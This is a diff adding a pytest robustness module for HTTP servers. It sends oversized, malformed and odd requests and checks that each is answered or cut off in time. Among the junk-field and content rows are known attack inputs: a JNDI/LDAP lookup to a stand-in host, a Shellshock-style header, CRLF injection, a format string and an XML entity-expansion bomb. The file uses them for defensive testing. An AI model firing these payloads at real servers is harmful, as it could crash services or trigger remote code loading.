@@ -1,0 +1,271 @@
+"""Requests that are well-formed, and larger or stranger than any that a browser would send."""
+
+from __future__ import annotations
+
+import pytest
+
+from conformance.harness.plugin import verifies
+from conformance.http.peer import Http
+from conformance.http.robustness import ROBUSTNESS
+from conformance.http.sturdy import fair, serves_on
+from conformance.http.wire import Silent
+
+section = ROBUSTNESS.section("4", "Strange Requests")
+
+LARGE = section.robustness(
+    "large",
+    role="server",
+    text="A request with very many or very long elements is answered in HTTP and in time, or cut off, and "
+    "the next connection is served.",
+    hint="Bound each element before it is parsed, and let no parser take more than linear time; answer 414, 431, 413.",
+)
+
+ODD = section.robustness(
+    "odd",
+    role="server",
+    text="A request whose target, fields or content hold what their application does not expect is answered in "
+    "HTTP and in time, or cut off, and the next connection is served.",
+    hint="Catch the error where octets are decoded or parsed, and answer 400, or ignore the field.",
+)
+
+KILO, MANY, MEGA = 1000, 10_000, 1_000_000
+
+
+def get(query: bytes = b"", fields: bytes = b"") -> bytes:
+    return b"GET {path}" + query + b" HTTP/1.1\r\nHost: {host}\r\n" + fields + b"\r\n"
+
+
+def post(media_type: bytes, content: bytes) -> bytes:
+    head = b"{upload} HTTP/1.1\r\nHost: {host}\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
+    return head % (media_type, len(content)) + content
+
+
+def rows(**requests: bytes) -> pytest.MarkDecorator:
+    return pytest.mark.parametrize("octets", requests.values(), ids=[name.replace("_", " ") for name in requests])
+
+
+def lists(*names: bytes) -> pytest.MarkDecorator:
+    return pytest.mark.parametrize("name", names, ids=[name.decode() for name in names])
+
+
+PARTS = (
+    b"".join(b'--b\r\nContent-Disposition: form-data; name="%d"\r\n\r\nc\r\n' % n for n in range(MANY)) + b"--b--\r\n"
+)
+NESTED = b"".join(b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1) for n in range(KILO))
+FORM = b"multipart/form-data; boundary=b"
+URLENCODED = b"application/x-www-form-urlencoded"
+
+
+@pytest.mark.alone
+@verifies(LARGE)
+@rows(
+    target_of_a_megabyte=get(b"?" + b"a" * MEGA),
+    path_of_a_megabyte=get(b"/" + b"a" * MEGA),
+    thousands_of_segments=get(b"/a" * 3000),
+    thousands_of_dots=get(b"/.." * 2000),
+    thousands_of_escapes=get(b"?" + b"%41" * 2000),
+    a_thousand_parameters=get(b"?" + b"&".join(b"a%d=b" % number for number in range(KILO))),
+    ten_thousand_parameters=get(b"?" + b"&".join(b"a%d=b" % number for number in range(MANY))),
+    ten_thousand_equal_parameters=get(b"?" + b"a=b&" * MANY),
+    deep_brackets=get(b"?a" + b"%5Bb%5D" * MANY + b"=c"),
+    field_line_of_a_megabyte=get(fields=b"X-A: " + b"b" * MEGA + b"\r\n"),
+    field_name_of_a_megabyte=get(fields=b"X" * MEGA + b": b\r\n"),
+    a_megabyte_of_small_lines=get(fields=b"X-A: b\r\n" * (MEGA // 8)),
+    thousands_of_names=get(fields=b"".join(b"X-%d: b\r\n" % number for number in range(MANY))),
+    cookie_of_64_kB=get(fields=b"Cookie: a=" + b"b" * 65_536 + b"\r\n"),
+    a_thousand_cookies=get(fields=b"Cookie: " + b"; ".join(b"a%d=b" % n for n in range(KILO)) + b"\r\n"),
+    a_thousand_cookie_lines=get(fields=b"Cookie: a=b\r\n" * KILO),
+    credentials_of_100_kB=get(fields=b"Authorization: Basic " + b"QTpi" * 25_000 + b"\r\n"),
+    ten_thousand_ranges=get(fields=b"Range: bytes=" + b",".join(b"%d-" % n for n in range(MANY)) + b"\r\n"),
+    overlapping_ranges=get(fields=b"Range: bytes=" + b"0-," * 2000 + b"0-\r\n"),
+    a_thousand_entity_tags=get(fields=b"If-None-Match: " + b'"a", ' * KILO + b'"b"\r\n'),
+    quality_of_many_digits=get(fields=b"Accept: text/html;q=0." + b"3" * MANY + b"\r\n"),
+    quoted_pairs=get(fields=b'X-A: "' + b"\\a" * MANY + b'"\r\n'),
+    quotes_without_end=get(fields=b'Accept: a/b;c="' + b'\\"' * MANY + b"\r\n"),
+    commas=get(fields=b"Accept: " + b"," * MANY + b"\r\n"),
+    semicolons=get(fields=b"Accept: a/b" + b";" * MANY + b"\r\n"),
+    spaces_in_a_value=get(fields=b"X-A: b" + b" " * MANY + b"c\r\n"),
+    method_of_a_megabyte=b"G" * MEGA + b" {path} HTTP/1.1\r\nHost: {host}\r\n\r\n",
+    version_of_a_megabyte=b"GET {path} HTTP/1." + b"1" * MEGA + b"\r\nHost: {host}\r\n\r\n",
+)
+def test_a_large_request_is_survived(http: Http, octets: bytes) -> None:
+    survived(http, octets)
+
+
+@pytest.mark.alone
+@verifies(LARGE)
+@lists(b"Accept", b"Accept-Encoding", b"Accept-Language", b"Cookie", b"Cache-Control", b"X-Forwarded-For", b"Via")
+@pytest.mark.parametrize("form", ["lines", "members"])
+def test_ten_thousand_members_of_a_list_take_no_time(http: Http, name: bytes, form: str) -> None:
+    line = name + b": a\r\n"
+    survived(http, get(fields=line * MANY if form == "lines" else name + b": a" + b", a" * MANY + b"\r\n"))
+
+
+@verifies(LARGE)
+@rows(
+    ten_thousand_parts=post(FORM, PARTS),
+    nested_parts=post(b"multipart/mixed; boundary=b0", NESTED),
+    boundaries_only=post(FORM, b"--b\r\n" * MANY),
+    part_without_end=post(FORM, b"--b\r\nContent-Disposition: form-data; name=a; filename=a\r\n\r\n" + b"c" * 100_000),
+    part_with_ten_thousand_fields=post(FORM, b"--b\r\n" + b"X-A: b\r\n" * MANY + b"\r\nc\r\n--b--\r\n"),
+    boundary_of_100_kB=post(b"multipart/form-data; boundary=" + b"b" * 4000, b"--" + b"b" * 100_000 + b"--"),
+    ten_thousand_form_fields=post(URLENCODED, b"&".join(b"a%d=b" % number for number in range(MANY))),
+    deep_brackets_in_a_form=post(URLENCODED, b"a" + b"[b]" * MANY + b"=c"),
+    deep_JSON=post(b"application/json", b"[" * 100_000),
+    number_of_many_digits=post(b"application/json", b"9" * 100_000),
+    entities_of_entities=post(
+        b"text/xml",
+        b"<!DOCTYPE a [<!ENTITY a0 'b'>"
+        + b"".join(b"<!ENTITY a%d '%b'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
+        + b"]><a>&a9;</a>",
+    ),
+)
+def test_large_structures_in_content_are_survived(http: Http, octets: bytes) -> None:
+    survived(http, octets)
+
+
+JUNK_TYPES = [
+    b"",
+    b"/",
+    b"text",
+    b"text/",
+    b"a/b/c",
+    b"text/plain; charset",
+    b'text/plain; charset="',
+    b"text/plain; charset=conformance",
+    b"text/plain; charset=utf-7",
+    b"text/plain; charset=\xff",
+    b"multipart/form-data",
+    b"multipart/form-data; boundary=",
+    b'multipart/form-data; boundary="',
+    b"multipart/form-data; boundary=\xff",
+    b"application/json",
+    b"application/json; charset=utf-16",
+    URLENCODED,
+    b"text/xml",
+    b"application/grpc",
+    b"application/x-java-serialized-object",
+]
+JUNK_CREDENTIALS = [
+    b"",
+    b"Basic",
+    b"Basic ",
+    b"Basic =",
+    b"Basic ====",
+    b"Basic a",
+    b"Basic \xff\xfe",
+    b"Basic OjpjOjo6",
+    b"Basic QQ==",
+    b"Basic /////w==",
+    b"Digest",
+    b"Digest a",
+    b'Digest username="',
+    b"Bearer",
+    b"Bearer a.b.c",
+    b"Bearer " + b"." * 100,
+    b"Negotiate YIIB",
+    b"conformance",
+    b", ,",
+    b'"',
+]
+JUNK_FIELDS = [
+    b"Cookie: ===;;;",
+    b"Cookie: ;",
+    b"Cookie: a",
+    b'Cookie: a="',
+    b"Cookie: $Version=1; a=b",
+    b"Cookie: \xff=\xfe",
+    b"Forwarded: for=;;by",
+    b'Forwarded: for="',
+    b"Forwarded: for=_hidden;proto=\xff",
+    b"X-Forwarded-For: \xff, , a",
+    b"X-Forwarded-For: 999.999.999.999",
+    b"X-Forwarded-Host: a b",
+    b"X-Forwarded-Port: x",
+    b"X-Forwarded-Proto: gopher",
+    b"X-Real-IP: a",
+    b"X-HTTP-Method-Override: CONFORMANCE",
+    b"Accept: \xff",
+    b"Accept: */*;q=",
+    b"Accept: */*;q=a",
+    b"Accept: text/html;level=\xff",
+    b"Accept-Charset: \xff",
+    b"Accept-Encoding: ;q=1",
+    b"Accept-Encoding: gzip;q=\xff",
+    b"Accept-Language: ;;;",
+    b"Accept-Language: -",
+    b"Range: bytes=",
+    b"Range: bytes=-",
+    b"Range: bytes=a-b",
+    b"Range: bytes=9999999999999999999999-",
+    b"Range: \xff",
+    b"If-Modified-Since: \xff",
+    b"If-Modified-Since: 0",
+    b"If-Modified-Since: Sun, 99 Foo 99999 99:99:99 GMT",
+    b"If-Unmodified-Since: -1",
+    b'If-None-Match: "',
+    b"If-None-Match: W/",
+    b'If-Range: "',
+    b"Date: never",
+    b"Origin: \xff",
+    b"Origin: null",
+    b"Referer: \xff",
+    b"Referer: javascript:alert(1)",
+    b"User-Agent: ",
+    b"User-Agent: \xff\xfe",
+    b"User-Agent: %0d%0aX-Zebra:%20zebra",
+    b"User-Agent: ${jndi:ldap://conformance.invalid/a}",
+    b"User-Agent: () { :;}; exit",
+    b"User-Agent: \x1b[31m",
+    b"User-Agent: %s%n%x",
+    b"Upgrade-Insecure-Requests: x",
+    b"Max-Forwards: -1",
+    b"Max-Forwards: x",
+    b"DNT: \xff",
+    b"Keep-Alive: timeout=x, max=",
+    b"Proxy-Authorization: Basic \xff",
+    b"Via: \xff",
+    b"TE: ;q=",
+    b"Priority: u=\xff",
+    b"Sec-WebSocket-Key: \xff",
+    b"Access-Control-Request-Method: \xff",
+    b"Content-Encoding: \xff",
+    b"Pragma: \xff",
+]
+INVALID_UTF_8 = [b"%FF", b"%C0%AF", b"%ED%A0%80", b"%F4%90%80%80", b"%E2%82", b"%00", b"%80", b"%FE%FF"]
+RAW_8_BIT = [b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82"]
+
+
+@verifies(ODD)
+@pytest.mark.parametrize("octets", [*INVALID_UTF_8, *RAW_8_BIT])
+@pytest.mark.parametrize("place", [b"{path}%b", b"{path}?%b=b", b"{path}?a=%b", b"/conformance-%b/a"])
+def test_octets_that_are_no_utf_8_are_survived_in_a_target(http: Http, place: bytes, octets: bytes) -> None:
+    survived(http, b"GET " + place.replace(b"%b", octets) + b" HTTP/1.1\r\nHost: {host}\r\n\r\n")
+
+
+@verifies(ODD)
+@pytest.mark.parametrize("line", JUNK_FIELDS)
+def test_junk_in_a_field_is_survived(http: Http, line: bytes) -> None:
+    survived(http, get(fields=line + b"\r\n"))
+
+
+@verifies(ODD)
+@pytest.mark.parametrize("credentials", JUNK_CREDENTIALS)
+@pytest.mark.parametrize("path", [b"{path}", b"{path_401}"])
+def test_junk_in_credentials_is_survived(http: Http, path: bytes, credentials: bytes) -> None:
+    survived(http, get(fields=b"Authorization: " + credentials + b"\r\n").replace(b"{path}", path))
+
+
+@verifies(ODD)
+@pytest.mark.parametrize("media_type", JUNK_TYPES)
+@pytest.mark.parametrize("content", [b"", b"\xff\xfe{", b"a=%FF&b=%&=c;d"], ids=["empty", "8-bit", "form"])
+def test_content_of_a_strange_type_is_survived(http: Http, media_type: bytes, content: bytes) -> None:
+    survived(http, post(media_type, content))
+
+
+def survived(http: Http, octets: bytes) -> None:
+    """The request is answered or cut off, and the next one is served."""
+    answer = http.answer(octets)
+    assert fair(answer)
+    assert not isinstance(answer, Silent)
+    assert serves_on(http)
